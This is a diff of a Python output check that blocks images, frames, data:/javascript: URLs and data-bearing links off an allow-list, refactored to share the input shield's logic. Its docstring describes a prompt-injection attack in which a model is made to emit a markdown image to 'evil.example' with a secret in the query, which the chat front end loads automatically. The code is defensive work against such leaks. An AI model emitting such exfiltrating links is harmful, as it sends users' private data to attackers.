@@ -2,26 +2,25 @@
 
 An injected prompt can make a model write ``![](https://evil.example/?q=SECRET)``:
 the chat front end loads the image by itself and the data leaves without a
-click. This check refuses:
+click. The judgment is the shield's (``unwalled.shield.links.find_exfiltration``),
+so the input shield and this check agree. It refuses:
 
-- any image (markdown inline or reference-style, HTML ``img``/``srcset``/...) whose
-  host is not on the allow-list;
-- any ``data:`` URL, which can smuggle content in either direction;
-- links off the allow-list that carry data: a query string, a fragment, or a
-  long or encoded path segment (with ``links: all``, every link off the list).
+- any image, frame or other URL that loads without a click (markdown inline or
+  reference-style, HTML ``img``/``srcset``/``iframe``..., CSS) off the allow-list;
+- any ``data:``, ``javascript:``, ``file:`` or ``blob:`` URL;
+- links off the allow-list that carry data: credentials, a secret or personal
+  data, a long or sentence-like query value, an encoded blob in the query, path
+  or host (with ``links: all``, every link off the list; ``none``, no link).
 """
 
 from __future__ import annotations
 
-import re
 from typing import Literal
-from urllib.parse import urlsplit
 
-from unwalled.contracts.checks.base import excerpt
-from unwalled.contracts.checks.urls import AllowListOptions, Link, LinkCheck, \
-    host_allowed
-
-DATA_SEGMENT = re.compile(r"[A-Za-z0-9+/_=-]{24,}|%[0-9A-Fa-f]{2}.*%[0-9A-Fa-f]{2}")
+from unwalled.contracts.checks.base import Answer, Check
+from unwalled.contracts.checks.urls import AllowListOptions
+from unwalled.contracts.verdict import Violation
+from unwalled.shield.links import find_exfiltration, host_of, scheme_of
 
 
 class ExfiltrationOptions(AllowListOptions):
@@ -30,45 +29,31 @@ class ExfiltrationOptions(AllowListOptions):
     """Which links off the allow-list to refuse: those carrying data, all, none."""
 
 
-class ExfiltrationCheck(LinkCheck):
+class ExfiltrationCheck(Check):
     """Images and links that could carry data out (``allow``: domains they may
     point to)."""
 
     kind = "exfiltration"
     options: ExfiltrationOptions
 
-    def problem(self, link: Link) -> str | None:
-        scheme = link.scheme
-        if scheme == "data":
-            return (f"a data: URL in a {link.kind} can carry content in or out "
-                    f"({excerpt(link.url, 40)}); remove it")
-        if scheme in ("javascript", "vbscript"):
-            return f"a {scheme}: URL runs code when opened ({excerpt(link.url, 40)})"
-        if not scheme and not link.url.startswith("//"):
-            return None  # relative: stays on the site that shows the answer
-        host = link.host
-        if host_allowed(host, self.allowed):
-            return None
-        if link.kind == "image":
-            return (f"an image from {host or 'an unknown host'} would be loaded "
-                    f"without a click and could send data out ({excerpt(link.url)}); "
-                    "only images from allowed domains may appear")
-        if self.options.links == "all" or (
-                self.options.links == "with_data" and carries_data(link.url)):
-            return (f"a link to {host or 'an unknown host'} carries data in its URL "
-                    f"({excerpt(link.url)}) and is not on the allow-list")
-        return None
+    def __init__(self, options: ExfiltrationOptions) -> None:
+        super().__init__(options)
+        self.allowed = tuple(options.allow)
+
+    def run(self, answer: Answer) -> list[Violation]:
+        found: list[Violation] = []
+        for path, text in self.texts(answer):
+            for finding in find_exfiltration(text, self.allowed, self.options.links):
+                found.append(self.violation(path, (
+                    f"a {finding.form} to {where(finding.url)} could carry data "
+                    f"out ({finding.reason}); remove it, or allow its domain")))
+        return found
 
 
-def carries_data(url: str) -> bool:
-    """Whether a URL has room for smuggled data: a query, fragment or odd path."""
-    try:
-        parts = urlsplit(url.replace("\\", "/"))
-    except ValueError:
-        return True
-    if parts.query or parts.fragment or parts.username or parts.password:
-        return True
-    return any(DATA_SEGMENT.search(segment) for segment in parts.path.split("/"))
+def where(url: str) -> str:
+    """The URL's host (or scheme), never its path or query: those may hold the
+    very data that is leaving, and the message goes to the ledger."""
+    return host_of(url) or f"a {scheme_of(url) or 'relative'}: URL"
 
 
 def build(options: ExfiltrationOptions) -> ExfiltrationCheck:
